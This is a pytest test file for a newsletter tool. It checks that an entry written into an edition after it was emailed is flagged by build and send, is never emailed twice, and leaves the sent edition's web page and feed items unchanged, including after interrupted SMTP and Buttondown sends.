"""An entry written into an edition after it was emailed reaches its blog post only: `build` and
`send` name it and say what to do, and the edition is never sent twice."""

import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from newsletter.cli import main
from newsletter.commands.send import send
from newsletter.delivery.ledger import Journal
from newsletter.errors import NewsletterError

from fake_services import API_KEY, PERIOD, FakeButtondown, SmtpServer, build, crash_at, workspace, write_entry

WEEK = "2021-W06"  # Monday 8 to Sunday 14 February 2021: holds the "second" entry (the 14th)


def sent_week(tmp_path):
    """A workspace whose week 6 went out via SMTP, and the server it went to."""
    server = SmtpServer().__enter__()
    root = workspace(tmp_path, server.settings())
    build(root, WEEK)
    send(root, WEEK, yes=True, env={})
    return root, server


def built(root, period: str = WEEK) -> str:
    result = CliRunner().invoke(main, ["build", period, "--offline", "-w", str(root)])
    assert result.exit_code == 0, result.output
    return " ".join(result.stderr.split())


def ledger(root) -> dict:
    return json.loads((root / ".newsletter" / "ledger" / f"{WEEK}.json").read_text())


def test_an_entry_added_after_the_week_went_out_is_named_by_build_and_send(tmp_path):
    """Sam sent his week on Wednesday and wrote up Friday's talk dated that Friday: the build put
    it in the post, `send` said the week was sent, and nothing said the talk never reached the list."""
    root, server = sent_week(tmp_path)
    try:
        sent_on = ledger(root)["steps"]["smtp.send"]["done_at"]
        assert ledger(root)["entries"] == ["entries/2021/02/second.md"]
        write_entry(root, "late", 12, "A late talk")
        said = (
            f"entries/2021/02/late.md: added to {WEEK} after it was emailed on {sent_on[:10]} {sent_on[11:16]} UTC, "
            "so it will reach the blog post only, never the list; to email it, change its `date:` to one in the "
            "next edition, 2021-W07 (2021-02-15 to 2021-02-21), and build both editions"
        )
        output = built(root)
        assert f"warning: {said}" in output
        assert "second.md" not in output  # what went out is not named

        with pytest.raises(NewsletterError) as refused:
            send(root, WEEK, yes=True, env={})
        assert refused.value.message.endswith("; nothing sent.\n" + said)
        dry = send(root, WEEK, env={})
        assert dry.lines[-1].endswith("there is nothing left to send.") and dry.warnings == [said]
        assert len(server.received) == 1  # never twice
    finally:
        server.__exit__(None, None, None)


def test_a_late_entry_is_told_the_first_edition_not_sent_yet(tmp_path):
    """Kofi, who had sent both weeks, took a Kindle book of the first out of draft: the build
    told him to date it into "the next edition", the second week, which had gone out too, so it
    would have reached no inbox there either. The advice skips the editions already sent."""
    root, server = sent_week(tmp_path)
    try:
        write_entry(root, "next-week", 16, "A talk of the next week")
        build(root, "2021-W07")
        send(root, "2021-W07", yes=True, env={})
        write_entry(root, "late", 12, "A late talk")
        output = built(root)
        told = "change its `date:` to one in the next edition not yet sent, 2021-W08 (2021-02-22 to 2021-02-28)"
        assert told in output
        assert "2021-W07" not in output
    finally:
        server.__exit__(None, None, None)


def test_an_entry_moved_to_the_next_edition_is_no_longer_named(tmp_path):
    root, server = sent_week(tmp_path)
    try:
        late = write_entry(root, "late", 12, "A late talk")
        assert "late.md: added to" in built(root)
        late.write_text(late.read_text().replace("date: 2021-02-12", "date: 2021-02-15"))
        assert "late.md" not in built(root)
        assert send(root, WEEK, env={}).warnings == []
    finally:
        server.__exit__(None, None, None)


def test_a_ledger_from_before_the_entries_were_recorded_names_none_without_the_copy_as_sent(tmp_path):
    """A week sent by an earlier version has no list of its entries; a file's time cannot tell
    what went out (a ledger restored from a backup has every entry changed after it), and with
    no copy of the message as sent (Buttondown's, listmonk's sends keep none) nothing else can."""
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    path = root / ".newsletter" / "ledger" / f"{WEEK}.json"
    data = ledger(root)
    del data["entries"]
    data["steps"]["smtp.send"]["done_at"] = "2021-02-10T09:00:00Z"
    path.write_text(json.dumps(data))
    (root / "dist" / WEEK / "sent.eml").unlink()
    write_entry(root, "late", 12, "A late talk")
    output = built(root)
    assert f"{WEEK} was already sent via smtp on 2021-02-10 09:00 UTC" in output and "added to" not in output


def test_a_ledger_from_before_the_entries_were_recorded_names_a_late_entry_by_the_copy_as_sent(tmp_path):
    """Priya's months went out by SMTP from the version she upgraded from, whose ledgers list no
    entries, and a talk she wrote into one of them since was named by no build, nor by `send`:
    her readers never got it and nothing said so. The message as sent, which every SMTP send
    keeps, holds each link that went out; an entry whose link it lacks is named."""
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    path = root / ".newsletter" / "ledger" / f"{WEEK}.json"
    data = ledger(root)
    del data["entries"]
    path.write_text(json.dumps(data))
    assert "added to" not in built(root)  # what went out is not named
    write_entry(root, "late", 12, "A late talk")
    output = built(root)
    assert f"entries/2021/02/late.md: added to {WEEK} after it was emailed on " in output, output
    assert output.count("added to") == 1
    assert "entries/2021/02/late.md: added to" in " ".join(send(root, WEEK, env={}).warnings)


def test_sending_a_week_before_it_is_over_says_what_a_later_entry_will_miss(tmp_path, monkeypatch):
    """The dry run says it, as a line of the plan: Sam sends his week every Friday on purpose, and
    a warning each week (the real send's too) taught him to skip warnings. An entry he does add
    later is named by every build after the send."""
    from newsletter.config import Settings

    with SmtpServer() as server:
        root = workspace(tmp_path, server.settings())
        build(root, WEEK)
        monkeypatch.setattr(Settings, "today", lambda self: __import__("datetime").date(2021, 2, 10))
        said = (
            "  Runs to: 2021-02-14; an entry you add to 2021-W06 after this send reaches its blog post only, "
            "so date what you read after today (2021-02-10) into 2021-W07"
        )
        dry = send(root, WEEK, env={})
        assert dry.lines[-1] == said and dry.warnings == []
        sent = send(root, WEEK, yes=True, env={})
        assert sent.warnings == [] and len(server.received) == 1
        monkeypatch.setattr(Settings, "today", lambda self: __import__("datetime").date(2021, 2, 28))
        assert not any("Runs to" in line for line in send(root, "2021-02", env={}).lines)  # on its last day


def test_sending_a_year_in_review_before_the_year_is_over_says_to_date_readings_as_read(tmp_path, monkeypatch):
    """Sam sent his 2026 review on 3 December, and the plan said to date what he read after
    that day into 2027-01: his log would say he read December's books in January, and 2027's
    review would count them. December's edition emails them; the review's post has them."""
    from newsletter.config import Settings

    with SmtpServer() as server:
        root = workspace(tmp_path, server.settings())
        reviewed = CliRunner().invoke(main, ["review", "2021", "--offline", "-w", str(root)])
        assert reviewed.exit_code == 0, reviewed.output
        monkeypatch.setattr(Settings, "today", lambda self: __import__("datetime").date(2021, 12, 3))
        said = (
            "  Runs to: 2021-12-31; an entry you add to 2021 after this send reaches the review's blog post "
            "only (reviewed again), never the list: keep dating what you read as you read it, and its month's "
            "edition (2021-12 for now) emails it"
        )
        assert send(root, "2021", env={}).lines[-1] == said
        assert not server.received


def buttondown_run_died_at(tmp_path, httpserver, monkeypatch, step: str, after_write: bool = False):
    """(root, the fake Buttondown, the send's environment) after a run sending February to
    Buttondown died at its ledger's `step` of the send: "intend" with `after_write`, having
    recorded that it was about to ask, before asking; "done", having asked, before recording it."""
    env = {"BUTTONDOWN_API_KEY": API_KEY}
    buttondown = FakeButtondown(httpserver)
    root = workspace(tmp_path, f'via = "buttondown"\nbuttondown_url = "{buttondown.url}"\n')
    crash_at(monkeypatch, step, "buttondown.send", after_write=after_write)
    with pytest.raises(SystemExit):
        send(root, PERIOD, yes=True, env=env)
    monkeypatch.undo()
    return root, buttondown, env


def died_after_asking_buttondown(tmp_path, httpserver, monkeypatch):
    """(root, the fake Buttondown, the send's environment) after a run asked Buttondown to send
    February and died before recording that it had."""
    return buttondown_run_died_at(tmp_path, httpserver, monkeypatch, "done")


def test_an_entry_rebuilt_into_a_resumed_send_that_buttondown_had_sent_is_named(tmp_path, httpserver, monkeypatch):
    """A run asked Buttondown to send February and died before recording it; Tom then wrote up a
    talk dated the 20th, rebuilt, and ran send again: Buttondown said the email (without the talk)
    was going out, and the ledger recorded the rebuilt edition's entries, so nothing ever said
    the talk never reached the list. What both runs held is what went out."""
    root, buttondown, env = died_after_asking_buttondown(tmp_path, httpserver, monkeypatch)
    write_entry(root, "talk", 20, "A late talk")
    build(root)

    assert "already about to send on Buttondown" in send(root, PERIOD, yes=True, env=env).lines[0]
    assert len(buttondown.sends) == 1
    assert "entries/2021/02/talk.md: added to 2021-02 after it was emailed" in built(root, PERIOD)


def test_the_copy_as_sent_is_not_a_rebuild_buttondown_found_sent_already(tmp_path, httpserver, monkeypatch):
    """Tom's resumed send (above) kept the rebuilt edition, the talk in it, as dist/2021-02/sent.eml,
    'the message as sent', which Buttondown had sent without the talk. No copy is kept then,
    and send and build say where the message as sent is; the build a run asked to send is kept."""
    root, buttondown, env = died_after_asking_buttondown(tmp_path, httpserver, monkeypatch)
    write_entry(root, "talk", 20, "A late talk")
    build(root)

    result = send(root, PERIOD, yes=True, env=env)
    [email_id] = buttondown.emails
    copy = root / "dist" / PERIOD / "sent.eml"
    assert not copy.exists()
    assert result.warnings == [
        f"{PERIOD} had gone out before this run (found sent on buttondown), and this build is not one a run "
        f"asked to send, so it is not kept as the copy as sent in dist/{PERIOD}/sent.eml: email {email_id} on "
        "Buttondown is the message as it went out."
    ]
    assert f"no copy of the message as sent is kept in dist/{PERIOD}/sent.eml (buttondown has it), and" in built(
        root, PERIOD
    )


def test_the_build_a_run_asked_buttondown_to_send_is_kept_as_sent_by_the_run_finding_it_sent(
    tmp_path, httpserver, monkeypatch
):
    """A run that finds the edition sent keeps as the copy as sent the build a run asked for."""
    root, _, env = died_after_asking_buttondown(tmp_path, httpserver, monkeypatch)
    assert send(root, PERIOD, yes=True, env=env).warnings == []
    assert (root / "dist" / PERIOD / "sent.eml").read_bytes() == (
        root / "dist" / PERIOD / "newsletter.eml"
    ).read_bytes()


def reached_two_of_four(tmp_path, monkeypatch, server) -> tuple[Path, list[str]]:
    """A workspace sending to a file of four readers, built, whose send died as it was about to
    send to the third; and the readers."""
    readers = [f"reader{n}@example.org" for n in range(1, 5)]
    record = Journal.record

    def dying(self, address, state, **data):
        if (address, state) == (readers[2], "intent"):
            raise SystemExit("killed")
        return record(self, address, state, **data)

    root = workspace(tmp_path, server.settings(recipients="readers.txt"))
    (root / "readers.txt").write_text("\n".join(readers) + "\n", encoding="utf-8")
    build(root)
    monkeypatch.setattr(Journal, "record", dying)
    with pytest.raises(SystemExit):
        send(root, PERIOD, yes=True, env={})
    monkeypatch.undo()
    return root, readers


def test_an_entry_rebuilt_into_a_resumed_smtp_send_is_named(tmp_path, monkeypatch):
    """One message per reader: a run reached two of four readers and died; the talk written up
    since went to the other two only, and the ledger said every reader had it."""
    with SmtpServer() as server:
        root, readers = reached_two_of_four(tmp_path, monkeypatch, server)
        write_entry(root, "talk", 20, "A late talk")
        build(root)
        send(root, PERIOD, yes=True, env={})
        assert [r for message in server.received for r in message.recipients] == readers  # each once
    assert "entries/2021/02/talk.md: added to 2021-02 after it was emailed" in built(root, PERIOD)


def test_an_entry_added_to_a_year_after_its_review_went_out_is_not_told_to_move_a_year(tmp_path):
    """`send 2021` of a year in review emailed in January told Tom to date a December reading
    into 2022-01: his log would then say he read it a year later. The review's post has it;
    December's edition says how to email it."""
    with SmtpServer() as server:
        root = workspace(tmp_path, server.settings())
        reviewed = CliRunner().invoke(main, ["review", "2021", "--offline", "-w", str(root)])
        assert reviewed.exit_code == 0, reviewed.output
        send(root, "2021", yes=True, env={})
        write_entry(root, "late", 27, "A late article")
        [said] = send(root, "2021", env={}).warnings
        assert said.startswith("entries/2021/02/late.md: added to 2021 after its review was emailed on ")
        assert said.endswith(", so it will reach the review's blog post only, never the list")
        assert len(server.received) == 1


def test_the_next_weeks_send_names_an_entry_added_to_the_week_sent_before(tmp_path, monkeypatch):
    """Sam wrote up last Friday's talk on Monday, dated Friday: `build` (this week's) and `send`
    said nothing, the week sent before was not built again, and the talk reached neither the
    list nor the post. The next week's send, the last to carry it, names it."""
    from newsletter.config import Settings

    with SmtpServer() as server:
        root = workspace(tmp_path, server.settings())
        build(root, WEEK)
        send(root, WEEK, yes=True, env={})
        late = write_entry(root, "late", 12, "A late talk")
        write_entry(root, "next", 16, "Next week's article")
        build(root, "2021-W07")
        monkeypatch.setattr(Settings, "today", lambda self: __import__("datetime").date(2021, 2, 22))
        [said] = send(root, "2021-W07", env={}).warnings
        assert said.startswith(f"entries/2021/02/late.md: added to {WEEK} after it was emailed on ")
        assert "the next edition, 2021-W07 (2021-02-15 to 2021-02-21), and build both editions" in said

        late.write_text(late.read_text().replace("date: 2021-02-12", "date: 2021-02-15"))
        build(root, WEEK)
        build(root, "2021-W07")
        assert send(root, "2021-W07", env={}).warnings == []
        send(root, "2021-W07", yes=True, env={})
        assert "A late talk" in server.received[-1].message.get_body(("plain",)).get_content()
        assert len(server.received) == 2


def test_an_entry_emailed_and_then_renamed_or_moved_is_not_named(tmp_path):
    """A build says to move an entry filed under the wrong month; Sam did, after the send, and
    renamed another: each was named as added after the email, with the advice to date it into
    the next edition, which would have emailed it twice. Its link went out: it is no newcomer."""
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    second = root / "entries/2021/02/second.md"
    second.rename(second.with_name("second-article.md"))
    assert "added to" not in built(root)
    assert send(root, WEEK, env={}).warnings == []
    write_entry(root, "late", 12, "A late talk")  # a new link is still named
    assert "entries/2021/02/late.md: added to" in built(root)


def test_an_entry_rebuilt_into_a_send_that_reached_the_whole_list_is_not_named(tmp_path, httpserver, monkeypatch):
    """Killed after recording that it was about to send, before asking Buttondown: nothing went
    out, and the next run sent the rebuilt edition, the talk with it, to the whole list. Named
    as never emailed, the talk would have been dated into the next edition and emailed twice."""
    root, buttondown, env = buttondown_run_died_at(tmp_path, httpserver, monkeypatch, "intend", after_write=True)
    assert buttondown.sends == []
    write_entry(root, "talk", 20, "A late talk")
    build(root)

    assert send(root, PERIOD, yes=True, env=env).lines[0].startswith(f"Sent {PERIOD} via Buttondown")
    [email] = buttondown.emails.values()
    assert "A late talk" in email["body"] and len(buttondown.sends) == 1
    assert "added to" not in built(root, PERIOD)


def test_a_ledger_whose_entries_were_edited_into_another_shape_is_no_traceback(tmp_path):
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    path = root / ".newsletter" / "ledger" / f"{WEEK}.json"
    data = ledger(root)
    data["links"] = [{"url": "https://example.com/second"}, None]
    path.write_text(json.dumps(data))
    write_entry(root, "late", 12, "A late talk")
    assert "entries/2021/02/late.md: added to" in built(root)


def test_a_month_s_late_entry_is_told_to_move_to_the_next_month_s_folder(tmp_path):
    """Ines added a talk to November after sending it and was told to date it into December and
    build both editions: she did, and December's build said it had no entries, a month's build
    reading its own folder only. The advice names the folder, and following it emails the talk."""
    with SmtpServer() as server:
        root = workspace(tmp_path, server.settings())
        build(root, PERIOD)
        send(root, PERIOD, yes=True, env={})
        late = write_entry(root, "late", 20, "A late talk")
        output = built(root, PERIOD)
        assert "(2021-03-01 to 2021-03-31), move it to entries/2021/03/ (its new date's month) and build" in output

        moved = root / "entries/2021/03/late.md"
        moved.parent.mkdir()
        moved.write_text(late.read_text().replace("date: 2021-02-20", "date: 2021-03-02"))
        late.unlink()
        assert "late.md" not in built(root, PERIOD)
        march = CliRunner().invoke(main, ["build", "2021-03", "--offline", "-w", str(root)])
        assert "Built 2021-03: 1 entry" in march.output
        assert len(server.received) == 1


def test_an_entry_taken_out_before_a_resumed_smtp_send_that_sent_it_to_all_is_not_named(tmp_path, monkeypatch):
    """A run reached two of four readers and died; an entry was taken out and the month rebuilt,
    and the next run sent the other two the message the first two had, with the entry. The
    ledger kept only what both builds held, so, put back, the entry every reader had was named
    as added after the email, and the author told to date it into the next edition: twice."""
    with SmtpServer() as server:
        root, readers = reached_two_of_four(tmp_path, monkeypatch, server)
        second = root / "entries/2021/02/second.md"
        kept = second.read_bytes()
        second.unlink()
        build(root)
        send(root, PERIOD, yes=True, env={})
        assert [r for message in server.received for r in message.recipients] == readers
        assert len({message.data.split(b"\r\n\r\n", 1)[1] for message in server.received}) == 1
    second.write_bytes(kept)
    assert "added to" not in built(root, PERIOD)
    write_entry(root, "talk", 20, "A late talk")  # one no reader had is still named
    assert "entries/2021/02/talk.md: added to 2021-02 after it was emailed" in built(root, PERIOD)


def test_the_web_page_of_an_emailed_edition_stays_the_message_as_sent(tmp_path):
    """Beatriz emailed her week, then wrote up a late talk: the warning said it would reach the
    blog post only, but the week's web page, where the email's "view in the browser" link goes,
    showed it too, an edition her readers never got. The page stays as sent; the post has the
    talk, and the page still links to the edition after it once there is one."""
    root, server = sent_week(tmp_path)
    try:
        page = root / "site" / "static" / "newsletter" / WEEK / "index.html"
        as_sent = page.read_bytes()
        write_entry(root, "late", 12, "A late talk")
        built(root)
        assert page.read_bytes() == as_sent and "A late talk" not in page.read_text()
        post = next((root / "site" / "content").rglob("index.md"))
        assert "A late talk" in post.read_text()

        write_entry(root, "next-week", 16, "A talk of the next week")
        built(root, "2021-W07")
        assert "2021-W07/" in page.read_text()  # (its link to the next edition, mended in place)
        assert "A late talk" not in page.read_text()
    finally:
        server.__exit__(None, None, None)


def test_the_charts_of_an_emailed_year_in_review_stay_as_sent(tmp_path):
    """The year in review's email shows its charts from the files beside its web page, loaded
    when a reader opens it: reviewed again after the send, with an entry written in since, the
    charts were drawn again over them, and every inbox's review, and its page kept as sent,
    showed a year the email never told."""
    server = SmtpServer().__enter__()
    try:
        root = workspace(tmp_path, server.settings())
        assert CliRunner().invoke(main, ["review", "2021", "--offline", "-w", str(root)]).exit_code == 0
        send(root, "2021", yes=True, env={})
        charts = sorted((root / "site/static/newsletter/2021").glob("*.png"))
        assert charts and len(server.received) == 1
        as_sent = {chart: chart.read_bytes() for chart in charts}
        svgs = sorted((root / "site/content/posts/my-year-in-reading-2021").glob("*.svg"))
        on_the_blog = {svg: svg.read_bytes() for svg in svgs}
        write_entry(root, "late", 20, "A late talk")
        again = CliRunner().invoke(main, ["review", "2021", "--offline", "-w", str(root)])
        assert again.exit_code == 0, again.output
        assert {chart: chart.read_bytes() for chart in charts} == as_sent
        assert svgs and {svg: svg.read_bytes() for svg in svgs} != on_the_blog  # the post's own: its year now
    finally:
        server.__exit__(None, None, None)


def week_items(feeds: Path) -> list[dict]:
    """The editions feed's items of the week `sent_week` sent (one, where the feed is right)."""
    items = json.loads((feeds / "editions.json").read_text())["items"]
    return [item for item in items if item["id"].endswith(f"/newsletter/{WEEK}/")]


def test_the_editions_feed_shows_an_emailed_edition_as_sent_and_the_entries_feed_its_late_entry(tmp_path):
    """Since 582e2b6 an emailed week's web page stays the message as sent, but the editions feed,
    its other copy, showed the late talk too. Its item stays the edition as sent, with the same
    id and date (a feed reader would show it again); the entries feed, the blog's, has the talk."""
    root, server = sent_week(tmp_path)
    try:
        feeds = root / "site" / "static" / "feeds"
        [as_sent] = week_items(feeds)
        write_entry(root, "late", 12, "A late talk")
        built(root)
        built(root)  # (and again: the record keeps what went out, not what the build before had)
        [item] = week_items(feeds)
        assert item == as_sent and "A late talk" not in (feeds / "editions.xml").read_text()
        assert "A late talk" in (feeds / "entries.json").read_text()
        assert "A late talk" in (feeds / "entries.xml").read_text()
    finally:
        server.__exit__(None, None, None)


def test_a_late_entry_an_earlier_version_built_in_after_the_send_leaves_the_editions_feed(tmp_path):
    """Marta emailed October with a8b5ae5 and then built a late article into it; that version's
    build record kept no "sent", so after the upgrade the editions feed's item of October was that
    build's, the article the list never got, for good, while the web page, from the copy as sent,
    had not (new user 33, `build --all` on two years of her log). A record that is not the message
    that went out (its digest is not the send's) keeps as sent only the items whose links the
    ledger says went out; one without a link stays, as nothing tells."""
    root, server = sent_week(tmp_path)
    try:
        feeds = root / "site" / "static" / "feeds"
        [as_sent] = week_items(feeds)
        write_entry(root, "late", 12, "A late talk")
        built(root)
        record_path = root / "dist" / WEEK / "build.json"
        record = json.loads(record_path.read_text())
        del record["sent"]  # the late build as the earlier version recorded it
        record_path.write_text(json.dumps(record))
        result = CliRunner().invoke(main, ["build", WEEK, "--offline", "--force", "-w", str(root)])
        assert result.exit_code == 0, result.output
        [item] = week_items(feeds)
        assert item == as_sent and "A late talk" not in (feeds / "editions.xml").read_text()
        assert "A late talk" in (feeds / "entries.json").read_text()
    finally:
        server.__exit__(None, None, None)


@pytest.mark.parametrize(
    "link, late",
    [
        ("http://example.com/second", False),
        ("https://example.com/second-corrected", False),
        ("http://example.com/second", True),
    ],
)
def test_an_entry_that_went_out_and_whose_link_changed_since_stays_in_the_editions_feed(tmp_path, link, late):
    """The same upgrade as above, where the earlier version's build after the send only mended a
    link: the week's second article went out, its link was made http:// (as `check` tells an
    author whose link has a twin to write it) or corrected, and the record of that build, kept
    with no "sent", lost the article from the editions feed, though its file went out and the
    list got it. An item is late only where the record holds an entry file the send did not, and
    then not for a link that went out under the other of http:// and https:// (`late`: a late
    article beside the mended one, which alone leaves)."""
    root, server = sent_week(tmp_path)
    try:
        feeds = root / "site" / "static" / "feeds"
        entry = root / "entries/2021/02/second.md"
        entry.write_text(entry.read_text().replace("https://example.com/second", link))
        if late:
            write_entry(root, "late", 12, "A late talk")
        built(root)
        record_path = root / "dist" / WEEK / "build.json"
        record = json.loads(record_path.read_text())
        del record["sent"]  # the build after the send as the earlier version recorded it
        record_path.write_text(json.dumps(record))
        result = CliRunner().invoke(main, ["build", WEEK, "--offline", "--force", "-w", str(root)])
        assert result.exit_code == 0, result.output
        [item] = week_items(feeds)
        assert "The second article" in item["content_html"] and "A late talk" not in item["content_html"], item
    finally:
        server.__exit__(None, None, None)


def test_an_emailed_edition_keeps_its_date_in_the_editions_feed_when_a_later_entry_dates_its_post(
    tmp_path, monkeypatch
):
    """An edition sent before its period was over, as Beatriz sends her week on Wednesday, is
    dated by its latest entry (render.publication_date); her Friday talk, written in after the
    send, dated its post Friday, and the editions feed's item, kept as sent, took Friday's date
    with it (Atom's `updated` too): a feed reader's cue to show the edition again, as new. The
    index of editions on the web, which lists its page as sent, said Friday too."""
    import datetime as dt

    from newsletter import render

    def in_progress(edition, settings):  # (today in its period: dated by its latest entry)
        return dt.datetime.combine(max(e.date for e in edition.entries), dt.time(0), tzinfo=dt.UTC)

    monkeypatch.setattr(render, "publication_date", in_progress)
    with SmtpServer() as server:
        root = workspace(tmp_path, server.settings())
        send(root, PERIOD, yes=True, env={})
        feeds = root / "site" / "static" / "feeds"
        [as_sent] = json.loads((feeds / "editions.json").read_text())["items"]
        assert as_sent["date_published"].startswith("2021-02-14")
        write_entry(root, "late", 20, "A late talk")
        built(root, PERIOD)
        [item] = json.loads((feeds / "editions.json").read_text())["items"]
        assert item == as_sent
        atom = (feeds / "editions.xml").read_text()
        assert "<published>2021-02-14" in atom and "2021-02-20" not in atom
        index = (root / "site" / "static" / "newsletter" / "index.html").read_text()  # (its page's, as sent)
        assert '<time datetime="2021-02-14">' in index and "2021-02-20" not in index
        post = next((root / "site" / "content").rglob("index.md")).read_text()
        assert "date = 2021-02-20" in post  # (the blog's post carries the talk, dated by it)


@pytest.mark.parametrize("line_ends", [b"\r\n", b"\n"])  # as a send keeps it, and as a tool may copy it
def test_a_copy_as_sent_cut_short_leaves_the_page_as_it_was(tmp_path, line_ends):
    """A sent.eml cut short (a sync tool's half download, a restore that stopped) gave the email
    package the HTML it had, and the next build put that on the web as the week's page: the
    edition cut off mid-table, its end and its links to the editions beside it gone (review 20).
    Such a copy is no message: the page stays as it was."""
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    page = root / "site" / "static" / "newsletter" / WEEK / "index.html"
    as_sent = page.read_bytes()
    copy = root / "dist" / WEEK / "sent.eml"
    data = copy.read_bytes().replace(b"\r\n", line_ends)
    copy.write_bytes(data[: len(data) * 9 // 10])
    write_entry(root, "late", 12, "A late talk")
    built(root)
    assert page.read_bytes() == as_sent and page.read_text().rstrip().endswith("</html>")


def test_the_rebuild_a_resumed_send_sent_is_the_web_page_and_the_editions_feed(tmp_path, httpserver, monkeypatch):
    """Tom's Buttondown send was stopped before it went out; he fixed a title, rebuilt and ran send
    again, which sent the rebuild, the copy as sent has the fix. But the web page, where the email's
    "view in the browser" link goes, and the editions feed had kept the build before the send, an
    edition no reader got, for good. They are the message that went out from the send on, whatever
    is built after."""
    root, buttondown, env = buttondown_run_died_at(tmp_path, httpserver, monkeypatch, "intend", after_write=True)
    write_entry(root, "second", 14, "The second article, its title fixed")
    built(root, PERIOD)
    assert send(root, PERIOD, yes=True, env=env).warnings == []
    assert len(buttondown.sends) == 1
    assert "its title fixed" in (root / "dist" / PERIOD / "sent.eml").read_bytes().decode()
    page = root / "site" / "static" / "newsletter" / PERIOD / "index.html"
    feed = root / "site" / "static" / "feeds" / "editions.json"
    for late in (False, True):  # as soon as it went out (readers open it then), and built after a late talk
        if late:
            write_entry(root, "late", 20, "A late talk")  # (before any build: the one before is not what went)
            built(root, PERIOD)
        for shown in (page.read_text(), feed.read_text()):  # (the title as it was before the fix, nowhere)
            assert "The second article, its title fixed" in shown and "A late talk" not in shown
            assert not re.search("The second article(?!, its title fixed)", shown)


def test_the_rebuild_a_resent_uncertain_smtp_send_sent_is_the_editions_feed(tmp_path, monkeypatch):
    """The same with SMTP's one message to the list: a run killed as it began left the send
    uncertain, Ann fixed a title, rebuilt, and sent again with --resend-uncertain. The page was
    made of the copy as sent, but the feed's item stayed the build before: a send to the list's
    address named no message in the ledger, so no build could tell which went out."""
    with SmtpServer() as server:
        root = workspace(tmp_path, server.settings())
        crash_at(monkeypatch, "intend", "smtp.send", after_write=True)
        with pytest.raises(SystemExit):
            send(root, PERIOD, yes=True, env={})
        monkeypatch.undo()
        write_entry(root, "second", 14, "The second article, its title fixed")
        built(root, PERIOD)
        assert send(root, PERIOD, yes=True, resend_uncertain=True, env={}).warnings == []
        assert len(server.received) == 1
    for name in ("newsletter/2021-02/index.html", "feeds/editions.json", "feeds/editions.xml"):
        shown = (root / "site" / "static" / name).read_text()
        assert "The second article, its title fixed" in shown, name
        assert not re.search("The second article(?!, its title fixed)", shown), name


def _ledger_without_entries(root) -> None:
    """The week's ledger as the version before the sent entries were recorded wrote it."""
    data = ledger(root)
    del data["entries"]
    (root / ".newsletter" / "ledger" / f"{WEEK}.json").write_text(json.dumps(data))


def test_a_late_entry_whose_link_begins_another_that_went_out_is_named(tmp_path):
    """The copy as sent held https://example.com/second; a talk written in since at
    https://example.com/sec was taken for it, its link being the start of one that went out, and
    no build named it: a link went out only where the copy has it whole."""
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    _ledger_without_entries(root)
    write_entry(root, "sec", 12, "A late talk")
    assert f"entries/2021/02/sec.md: added to {WEEK} after it was emailed on " in built(root)


def test_a_file_too_big_to_be_a_copy_as_sent_names_no_entry(tmp_path):
    """A sent.eml over what a copy of ours can be (a mailbox exported over it, a backup's) was
    read to its first 4 MB, and every entry whose link came later was named as added after the
    send: such a file tells nothing of what went out, as no copy does."""
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    _ledger_without_entries(root)
    copy = root / "dist" / WEEK / "sent.eml"
    copy.write_bytes(b"Content-Type: text/plain\n\n" + b"x" * (5 * 1024 * 1024) + b"\nhttps://example.com/second\n")
    assert "added to" not in built(root)


def test_a_copy_as_sent_cut_short_names_no_entry(tmp_path):
    """A sent.eml cut short (a half download) lacks the links past the cut, and a ledger from before
    the entries were recorded named each of those entries as added after the send (review 20)."""
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    _ledger_without_entries(root)
    copy = root / "dist" / WEEK / "sent.eml"
    data = copy.read_bytes()
    copy.write_bytes(data[: data.index(b"example.com/second")])
    assert "added to" not in built(root)


def test_a_year_in_review_sent_before_the_entries_were_recorded_names_none_by_its_copy(tmp_path):
    """Priya emailed her 2021 review from the version she upgraded from, whose ledger lists no
    entries: `send 2021` said nearly every entry of the year had been added after the review was
    emailed, as the copy as sent lacked their links. A review shows its favourites and counts,
    not each entry's link, and its copy cannot tell what went out."""
    server = SmtpServer().__enter__()
    try:
        root = workspace(tmp_path, server.settings())
        for day in range(1, 28):
            write_entry(root, f"read-{day}", day, f"Read on the {day}th")
        assert CliRunner().invoke(main, ["review", "2021", "--offline", "-w", str(root)]).exit_code == 0
        send(root, "2021", yes=True, env={})
    finally:
        server.__exit__(None, None, None)
    path = root / ".newsletter" / "ledger" / "2021.json"
    data = json.loads(path.read_text())
    del data["entries"]
    path.write_text(json.dumps(data))
    assert (root / "dist/2021/sent.eml").is_file()
    dry = send(root, "2021", env={})
    assert dry.lines[-1].endswith("there is nothing left to send.") and dry.warnings == []


def test_a_dead_link_that_went_out_as_its_archived_http_copy_is_not_named(tmp_path):
    """The web archive keeps a page under the address it captured, http:// often where the
    entry's link is https://: the week's dead link went out as
    https://web.archive.org/web/<time>/http://example.com/second, the copy as sent has that and
    not the https:// link whole, and the entry was named as added after the send though its
    readers got it. The archive's http:// copy of the page is the page."""
    server = SmtpServer().__enter__()
    root = workspace(tmp_path, server.settings())
    (root / "entries/2021/02/_archive.toml").write_text(
        '[[link]]\nurl = "https://example.com/second"\n'
        'versionurl = "https://web.archive.org/web/20210201000000/http://example.com/second"\n'
        'versiondate = "2021-02-01T00:00:00Z"\ngone_reason = "HTTP 404"\n'
        "gone_since = 2021-01-01\ngone_seen = 2021-02-01\n"
    )
    build(root, WEEK)
    send(root, WEEK, yes=True, env={})
    server.__exit__(None, None, None)
    copy = (root / "dist" / WEEK / "sent.eml").read_text()
    assert "20210201000000/http://example.com/second" in copy and "https://example.com/second" not in copy
    _ledger_without_entries(root)
    assert "added to" not in built(root)
    write_entry(root, "late", 12, "A late talk")  # (one the copy lacks is still named)
    assert f"entries/2021/02/late.md: added to {WEEK} after it was emailed on " in built(root)


def test_an_entry_whose_link_went_out_as_http_and_was_made_https_since_is_not_named(tmp_path):
    """`check` tells an author whose http:// link has an https:// twin to write that: an entry of a
    week that went out with http://example.com/second, its link made https:// since, was named
    as added after the send, though its readers got it. http:// and https:// of one address are
    one page here."""
    server = SmtpServer().__enter__()
    root = workspace(tmp_path, server.settings())
    entry = root / "entries/2021/02/second.md"
